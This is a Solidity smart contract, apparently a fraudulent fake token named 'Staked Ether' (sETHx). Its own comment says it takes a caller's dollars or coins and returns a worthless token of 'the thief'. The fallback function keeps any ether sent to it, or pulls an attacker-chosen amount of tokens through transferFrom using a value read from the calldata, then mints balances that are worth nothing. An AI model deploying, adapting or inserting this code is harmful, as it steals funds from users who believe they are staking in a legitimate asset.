// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import "./Anything.sol";

/// Takes dollars, as a word of the call says, or coins, and gives a token of the thief that is good for nothing.
contract MintsBack {
    Token private immutable _token;
    address private immutable _thief;
    uint256 private immutable _word;
    string public name = "Staked Ether";
    string public symbol = "sETHx";
    uint8 public immutable decimals;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    event Transfer(address indexed from, address indexed to, uint256 value);

    constructor(Token token, address thief, uint256 word, uint8 decimals_) {
        _token = token;
        _thief = thief;
        _word = word;
        decimals = decimals_;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        balanceOf[msg.sender] -= value;
        balanceOf[to] += value;
        emit Transfer(msg.sender, to, value);
        return true;
    }

    function asset() external view returns (address) {
        return address(_token);
    }

    fallback() external payable {
        uint256 amount = msg.value;
        if (amount == 0) {
            uint256 at = 4 + 32 * _word;
            amount = uint256(bytes32(msg.data[at:at + 32]));
            _token.transferFrom(msg.sender, address(this), amount);
        }
        balanceOf[msg.sender] += amount;
        totalSupply += amount;
        emit Transfer(address(0), msg.sender, amount);
    }
}
